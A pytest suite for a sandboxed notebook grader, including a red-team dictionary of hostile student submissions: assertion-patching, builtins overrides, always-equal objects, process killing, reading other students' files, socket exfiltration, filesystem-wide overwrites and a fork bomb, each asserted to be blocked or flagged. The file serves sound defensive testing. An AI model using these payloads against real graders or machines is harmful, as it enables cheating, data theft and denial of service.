"""Tests of the classroom tool: copies handed out, and submissions graded in a sandbox.

Every exercise master in masters/ and the small master in tests/data/classroom/ are assigned once.
Truth comes from outside the tool: the masters' own marker cells and points (read here with a
separate parser), notebooks wrong on purpose, and a red team: one submission per way of gaming the
grader that worked against the old grader, each shown blocked (no mark it did not earn, nothing
outside its sandbox changed, no hidden test or solution in what is handed back) or flagged.
"""
import copy
import csv
import json
import pathlib
import re
import socket
import subprocess
import sys

import nbformat
import psutil
import pytest

from course_lib import classroom, workbook

ROOT = pathlib.Path(__file__).resolve().parent.parent
FIXTURE = ROOT / "tests" / "data" / "classroom" / "00_fixture_exercises.ipynb"
MASTERS = sorted((ROOT / "masters").glob("*_exercises.ipynb")) + [FIXTURE]
MARKER = "red-team-marker-7f3a"  # in the command line of every process an attacker starts

needs_bwrap = pytest.mark.skipif(not classroom.bubblewrap(), reason=(
    "bubblewrap is not installed: `apt-get install bubblewrap` (.ci/run installs it)"))


def run_tool(*args, timeout=900):
    """Run `python -m course_lib.classroom ...` as `make` does; return the finished process."""
    return subprocess.run([sys.executable, "-m", "course_lib.classroom", *map(str, args)],
                          cwd=ROOT, capture_output=True, text=True, timeout=timeout)


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        return {row["student"]: row for row in csv.DictReader(f)}


# ---- reading a master independently of the tool ----

def master_parts(master):
    """Split a master by its raw marker cells: {question: points}, solution lines, hidden tests.

    Returns (points, solution lines, hidden test cells, answer cell sources by question).
    """
    nb = nbformat.read(master, as_version=4)
    points, solution, hidden, answers = {}, [], [], {}
    region = question = None
    for cell in nb.cells:
        text = cell.source.strip()
        if cell.cell_type == "raw":
            if text.startswith("# BEGIN QUESTION"):
                fields = dict(re.findall(r"^(\w+):\s*(\S+)", text, flags=re.MULTILINE))
                question = fields["name"]
                points[question] = float(fields["points"])
            region = {"# BEGIN SOLUTION": "solution", "# BEGIN TESTS": "tests"}.get(text, region)
            region = None if text in ("# END SOLUTION", "# END TESTS") else region
            continue
        if region == "tests" and text.startswith("# HIDDEN"):
            hidden.append(cell.source)
        elif region == "solution" and cell.cell_type == "code":
            answers[question] = cell.source
            inside = False
            for line in cell.source.splitlines():
                if line.strip() in ("# BEGIN SOLUTION", "# END SOLUTION"):
                    inside = line.strip() == "# BEGIN SOLUTION"
                elif (inside or line.endswith("# SOLUTION")) and len(line.strip()) >= 12:
                    solution.append(line.split("# SOLUTION")[0].strip())
    return points, solution, hidden, answers


def secrets(master):
    """Lines that must never reach a student: solution lines, hidden test lines and messages."""
    _, solution, hidden, _ = master_parts(master)
    lines = {line.strip() for cell in hidden for line in cell.splitlines()
             if len(line.strip()) >= 25 and not line.strip().startswith("#")}
    messages = set(re.findall(r'"([^"]{20,})"', "\n".join(hidden)))
    public = nbformat.read(master, as_version=4)
    public_text = "\n".join(c.source for c in public.cells
                            if not c.source.startswith("# HIDDEN"))
    return {s for s in set(solution) | lines | messages if s not in public_text}


def with_answers(assignment, master, questions):
    """The handed-out copy with the master's solutions pasted into some questions' answer cells."""
    nb = nbformat.read(assignment.student, as_version=4)
    _, _, _, answers = master_parts(master)
    for question in questions:
        blank = workbook.blank_source(answers[question])[0]
        cells = [c for c in nb.cells if c.cell_type == "code" and c.source == blank]
        assert len(cells) == 1, f"{question}'s blank answer cell should appear once"
        cells[0].source = answers[question]
    return nb


# ---- fixtures ----

@pytest.fixture(scope="module")
def workdir(tmp_path_factory):
    return tmp_path_factory.mktemp("classroom")


@pytest.fixture(scope="module")
def assigned(workdir):
    """{master name: Assignment or the ClassroomError it raised}."""
    found = {}
    for master in MASTERS:
        try:
            found[master.stem] = classroom.assign_one(master, workdir / "assignments")
        except classroom.ClassroomError as exc:
            found[master.stem] = exc
    return found


def solved(master):
    return workbook.read_master(master)[2]


# ---- every master ----

@needs_bwrap
@pytest.mark.parametrize("master", MASTERS, ids=[m.stem for m in MASTERS])
def test_master_assigns_and_its_copy_shows_no_secret(master, assigned):
    assignment = assigned[master.stem]
    assert not isinstance(assignment, Exception), str(assignment)
    points, _, hidden, _ = master_parts(master)
    bundle = json.loads(assignment.bundle.read_text())
    assert {q: s["points"] for q, s in bundle["questions"].items()} == points
    assert sum(t["hidden"] for s in bundle["questions"].values() for t in s["tests"]) \
        == len(hidden), "every hidden test is in the bundle"
    assert all(t["asserts"] >= 1 for s in bundle["questions"].values() for t in s["tests"])
    handed_out = assignment.student.read_text()
    leaked = sorted(s for s in secrets(master) if s in handed_out)
    assert not leaked, f"the copy handed out shows {leaked[:3]}"
    assert sorted(set(re.findall(r'check\(\\"(q\d+)\\"\)', handed_out))) == sorted(points)


@needs_bwrap
@pytest.mark.parametrize("master", MASTERS, ids=[m.stem for m in MASTERS])
def test_solutions_get_full_marks_and_each_blank_answer_loses_its_marks(master, assigned,
                                                                          tmp_path):
    assignment = assigned[master.stem]
    points, *_ = master_parts(master)
    questions = list(points)
    folder = tmp_path / "in"
    folder.mkdir()
    nbformat.write(solved(master), folder / "full.ipynb")
    for parity in (0, 1):  # every other question answered with the master's solution
        nb = with_answers(assignment, master, questions[parity::2])
        nbformat.write(nb, folder / f"half{parity}.ipynb")
    csv_path, _ = classroom.grade(master.stem, folder, assignment.student.parent.parent,
                                  tmp_path / "out", jobs=2)
    rows = read_csv(csv_path)
    assert float(rows["full"]["total"]) == sum(points.values()), rows["full"]["reason"]
    for parity in (0, 1):
        row = rows[f"half{parity}"]
        for i, q in enumerate(questions):
            answered = i % 2 == parity
            assert (float(row[q]) == points[q]) == answered, (q, row[q], row["reason"])
    feedback = (tmp_path / "out" / master.stem / "feedback" / "half0.md").read_text()
    assert not [s for s in secrets(master) if s in feedback]


# ---- the red team, on the fixture master ----

RED_TEAM = {
    # patch the grader's side inside the sandbox so that assertions are skipped
    "a_skip_assertions": """
import gc
for obj in gc.get_objects():
    if type(obj).__name__ == "Worker":
        obj.assertion = lambda number: None
slope = 0.0
def dsin(x):
    return x
""",
    # compile the tests with their checks stripped out
    "a_strip_checks": """
import builtins
_compile = builtins.compile
def _stripped(source, *args, **kwargs):
    if isinstance(source, str):
        source = source.replace("__grader_assert__(", "id(")
    return _compile(source, *args, **kwargs)
builtins.compile = _stripped
""",
    # shadow the names the tests use
    "b_shadow_names": """
class _Everything:
    def __getattr__(self, name):
        return lambda *a, **k: True
np = _Everything()
abs = lambda x: 0.0
len = lambda x: 0
isinstance = lambda *a: True
slope = float("nan")
def dsin(x):
    return 0.0
""",
    # answers that are objects equal to everything
    "c_magic_objects": """
class _Yes(float):
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __sub__(self, other): return self
    def __rsub__(self, other): return self
    def __abs__(self): return self
    __hash__ = float.__hash__
slope = _Yes(0.0)
def dsin(x):
    return _Yes(0.0)
""",
    # forge a result, kill the grading process, write where the gradebook would be
    "d_forge_and_kill": f"""
import os, pathlib, signal
for path in [pathlib.Path({str(ROOT)!r}) / "dist", pathlib.Path.home()]:
    try:
        (path / "forged.json").write_text('{{"scores": {{"q1": [2, 2]}}}}')
    except OSError:
        pass
os.write(1, b'{{"op": "done"}}\\n')
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
slope = 0.0
""",
    # read a classmate's notebook and the master from disk, and run their answer cells
    "e_read_others": f"""
import json, pathlib
stolen = ""
for found in pathlib.Path(SUBMISSIONS).glob("z_*.ipynb") if pathlib.Path(SUBMISSIONS).exists() \\
        else []:
    for cell in json.loads(found.read_text())["cells"]:
        if cell["cell_type"] == "code":
            exec("".join(cell["source"]))
for path in [pathlib.Path({str(ROOT)!r}) / "masters",
             pathlib.Path({str(ROOT)!r}) / "tests" / "data" / "classroom",
             pathlib.Path({str(ROOT)!r}) / "dist"]:
    for found in (path.rglob("*") if path.exists() else []):
        try:
            stolen += found.read_text()
        except OSError:
            pass
slope = stolen or 0.0
def dsin(x):
    return x
""",
    # send what it can find over the network
    "f_exfiltrate": """
import socket
try:
    socket.create_connection(("127.0.0.1", 8765), timeout=1).sendall(b"hidden tests")
except OSError:
    pass
try:
    socket.create_connection(("pypi.org", 443), timeout=2)
except OSError:
    pass
slope = 0.0
""",
    # a background process that outlives the grading and rewrites the gradebook
    "g_background": f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c",
                  "import time, pathlib; time.sleep(20); "
                  "pathlib.Path('/tmp/{MARKER}').write_text('x')", "{MARKER}"],
                 start_new_session=True)
slope = 0.0
""",
    # overwrite the bundle of tests so that later notebooks pass
    "h_overwrite_bundle": """
import pathlib
for found in pathlib.Path("/").rglob("tests.json"):
    try:
        found.write_text('{"questions": {}}')
    except OSError:
        pass
slope = 0.0
""",
    # a fork bomb
    "i_fork_bomb": """
import os
for _ in range(200):
    try:
        if os.fork() == 0:
            import time
            time.sleep(60)
            os._exit(0)
    except OSError:
        break
slope = 0.0
""",
}


@pytest.fixture(scope="module")
def red_team(assigned, workdir):
    """Grade the attackers, then a blank and a correct notebook, in one batch."""
    assignment = assigned[FIXTURE.stem]
    folder = workdir / "red_team"
    folder.mkdir()
    listener = socket.create_server(("127.0.0.1", 8765))  # where f_exfiltrate sends
    listener.settimeout(0.1)
    for name, source in RED_TEAM.items():
        nb = nbformat.read(assignment.student, as_version=4)
        source = source.replace("SUBMISSIONS", repr(str(folder)))
        nb.cells.append(nbformat.v4.new_code_cell(source))
        nbformat.write(nb, folder / f"{name}.ipynb")
    nbformat.write(nbformat.read(assignment.student, as_version=4), folder / "y_blank.ipynb")
    nbformat.write(solved(FIXTURE), folder / "z_correct.ipynb")
    bundle_before = assignment.bundle.read_bytes()
    out = workdir / "red_team_grades"
    done = run_tool("grade", FIXTURE.stem, folder, "--assignments", workdir / "assignments",
                    "--out", out, "--timeout", 60)
    left = [p.pid for p in psutil.process_iter(["cmdline"])
            if MARKER in " ".join(p.info["cmdline"] or [])]
    try:
        listener.accept()
        reached = True
    except OSError:
        reached = False
    listener.close()
    return done, read_csv(out / f"{FIXTURE.stem}.csv"), out, bundle_before, left, reached


@needs_bwrap
def test_no_attacker_earns_a_mark_and_the_honest_ones_are_graded_right(red_team):
    done, rows, *_ = red_team
    assert done.returncode == 0, done.stderr
    for name in RED_TEAM:
        assert float(rows[name]["total"]) == 0, (name, rows[name])
    assert float(rows["y_blank"]["total"]) == 0
    assert float(rows["z_correct"]["total"]) == 5, rows["z_correct"]["reason"]


@needs_bwrap
def test_attackers_touching_the_machinery_are_flagged(red_team):
    _, rows, *_ = red_team
    expected = {"a_skip_assertions": "walks the interpreter's objects",
                "a_strip_checks": "edits Python's builtins",
                "d_forge_and_kill": "sends signals", "e_read_others": "reads or writes files",
                "f_exfiltrate": "opens network connections", "g_background": "starts programs",
                "i_fork_bomb": "starts processes"}
    for name, flag in expected.items():
        assert flag in rows[name]["flags"], (name, rows[name]["flags"])
    assert rows["z_correct"]["flags"] == "" and rows["y_blank"]["flags"] == ""


@needs_bwrap
def test_nothing_outside_the_sandbox_changed_and_nothing_secret_came_back(red_team, assigned):
    done, rows, out, bundle_before, left, reached = red_team
    assert not reached, "a submission reached a server on the grader's machine"
    assert not left, "a process started by a submission outlived its grading"
    assert not pathlib.Path(f"/tmp/{MARKER}").exists()
    assert not (ROOT / "dist" / "forged.json").exists()
    assert assigned[FIXTURE.stem].bundle.read_bytes() == bundle_before
    handed_back = "\n".join(p.read_text() for p in (out / FIXTURE.stem / "feedback").glob("*"))
    handed_back += (out / f"{FIXTURE.stem}.csv").read_text() + done.stdout
    leaked = [s for s in secrets(FIXTURE) if s in handed_back]
    assert not leaked, leaked
    assert str(ROOT) not in handed_back, "feedback shows the instructor's paths"
    assert "started more than" in rows["i_fork_bomb"]["reason"] or \
        float(rows["i_fork_bomb"]["total"]) == 0


@needs_bwrap
def test_a_changed_bundle_is_refused(assigned, workdir, tmp_path):
    import shutil
    copy_dir = tmp_path / "assignments"
    shutil.copytree(workdir / "assignments" / FIXTURE.stem, copy_dir / FIXTURE.stem)
    bundle = copy_dir / FIXTURE.stem / "tests.json"
    bundle.write_text(bundle.read_text().replace('"points": 3.0', '"points": 30.0'))
    with pytest.raises(classroom.ClassroomError, match="checksum"):
        classroom.load_bundle(FIXTURE.stem, copy_dir)


# ---- the ordinary cases ----

@pytest.fixture(scope="module")
def ordinary(assigned, workdir):
    folder = workdir / "ordinary"
    folder.mkdir()
    nb = solved(FIXTURE)
    nb.metadata["kernelspec"] = {"name": "python3-other", "display_name": "Another Python",
                                 "language": "python"}
    nbformat.write(nb, folder / "a_other_kernel.ipynb")
    nbformat.write(solved(FIXTURE), folder / "b_upper.IPYNB")
    fresh = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(
        "import numpy as np\n\ndef dsin(x):\n    return np.cos(x)")])
    nbformat.write(fresh, folder / "c_pasted.ipynb")
    nbformat.write(_replace(solved(FIXTURE), "slope = 3 * 2.0 ** 2", "while True:\n    pass"),
                   folder / "d_loop_in_q1.ipynb")
    nbformat.write(_replace(solved(FIXTURE), "slope = 3 * 2.0 ** 2", "import os\nos._exit(3)"),
                   folder / "e_crash_in_q1.ipynb")
    nbformat.write(_replace(solved(FIXTURE), "slope = 3 * 2.0 ** 2", "slope = 1 / 0"),
                   folder / "f_raises.ipynb")
    nbformat.write(_replace(solved(FIXTURE), "def dsin(x):",
                            "def dsin(x):\n    raise ValueError('text-of-the-student-4411')"),
                   folder / "i_raises_in_q2.ipynb")
    (folder / "g_essay.txt").write_text("My answers are in the email.")
    (folder / "h_truncated.ipynb").write_text('{"cells": [{"cell_type": "code", "sou')
    (folder / ".ipynb_checkpoints").mkdir()
    out = workdir / "ordinary_grades"
    done = run_tool("grade", "00", folder, "--assignments", workdir / "assignments", "--out", out,
                    "--timeout", 120)
    return done, read_csv(out / f"{FIXTURE.stem}.csv"), out


def _replace(nb, old, new):
    nb = copy.deepcopy(nb)
    [cell] = [c for c in nb.cells if c.source.startswith(old)]
    cell.source = new
    return nb


@needs_bwrap
def test_kernelspec_suffix_and_pasted_answers(ordinary):
    done, rows, out = ordinary
    assert done.returncode == 0, done.stderr
    assert float(rows["a_other_kernel"]["total"]) == 5
    assert float(rows["b_upper"]["total"]) == 5
    pasted = rows["c_pasted"]
    assert (pasted["q1"], pasted["q2"]) == ("0", "3")
    assert "q1: `slope` not defined by any cell" in pasted["reason"]
    assert not (out / FIXTURE.stem / "feedback" / ".ipynb_checkpoints.md").exists()


@needs_bwrap
def test_a_loop_or_a_crash_costs_only_its_question_and_names_the_cell(ordinary):
    _, rows, _ = ordinary
    for name, reason in (("d_loop_in_q1", "stopped at the time limit of 60 s"),
                         ("e_crash_in_q1", "stopped the notebook"),
                         ("f_raises", "raised ZeroDivisionError")):
        row = rows[name]
        assert (row["q1"], row["q2"]) == ("0", "3"), (name, row)
        assert re.search(r"cell \d+ " + reason, row["reason"]), (name, row["reason"])


@needs_bwrap
def test_feedback_shows_the_graders_messages_not_the_students_output(ordinary):
    _, rows, out = ordinary
    assert (rows["i_raises_in_q2"]["q1"], rows["i_raises_in_q2"]["q2"]) == ("2", "0")
    feedback = (out / FIXTURE.stem / "feedback" / "i_raises_in_q2.md").read_text()
    assert "q2 public test 1/1: failed: error: your code raised ValueError" in feedback
    assert "text-of-the-student-4411" not in feedback


@needs_bwrap
def test_files_that_are_not_notebooks_get_zero_with_a_reason(ordinary):
    _, rows, out = ordinary
    assert (rows["g_essay"]["status"], rows["g_essay"]["total"]) == ("not a notebook", "0")
    assert rows["h_truncated"]["status"] == "corrupt"
    assert (out / FIXTURE.stem / "feedback" / "g_essay.md").exists()


@needs_bwrap
def test_without_the_sandbox_every_row_says_so(assigned, workdir, tmp_path):
    nbformat.write(solved(FIXTURE), tmp_path / "a.ipynb")
    nbformat.write(nbformat.read(assigned[FIXTURE.stem].student, as_version=4), tmp_path / "b.ipynb")
    (tmp_path / "c.txt").write_text("not a notebook")
    done = run_tool("grade", FIXTURE.stem, tmp_path, "--assignments", workdir / "assignments",
                    "--out", tmp_path / "out", "--unsafe")
    rows = read_csv(tmp_path / "out" / f"{FIXTURE.stem}.csv")
    assert float(rows["a"]["total"]) == 5 and float(rows["b"]["total"]) == 0, done.stderr
    assert all(row["flags"].startswith("graded WITHOUT the sandbox") for row in rows.values())


# ---- fast checks of inputs ----

def test_check_submission_names_the_problem(tmp_path):
    (tmp_path / "good.ipynb").write_text(nbformat.writes(nbformat.v4.new_notebook()))
    (tmp_path / "upper.IPYNB").write_text(nbformat.writes(nbformat.v4.new_notebook()))
    (tmp_path / "bad.ipynb").write_bytes(b"\xff\xfe not text")
    (tmp_path / "photo.png").write_bytes(b"\x89PNG")
    assert classroom.check_submission(tmp_path / "good.ipynb") is None
    assert classroom.check_submission(tmp_path / "upper.IPYNB") is None
    assert classroom.check_submission(tmp_path / "bad.ipynb")[0] == "corrupt"
    assert classroom.check_submission(tmp_path / "photo.png")[0] == "not a notebook"
    assert classroom.check_submission(tmp_path)[0] == "not a notebook"


def test_bad_commands_explain_what_to_do(tmp_path, capsys, monkeypatch):
    code = classroom.main(["grade", "99", str(tmp_path), "--assignments", str(tmp_path / "none")])
    assert code == 2 and "make assignments" in capsys.readouterr().err
    with pytest.raises(classroom.ClassroomError, match="timeout"):
        classroom.grade_submissions({}, [], tmp_path, timeout=0)
    monkeypatch.setattr(classroom, "bubblewrap", lambda: None)
    with pytest.raises(classroom.ClassroomError, match="apt-get install bubblewrap"):
        classroom.grade_submissions({}, [], tmp_path)
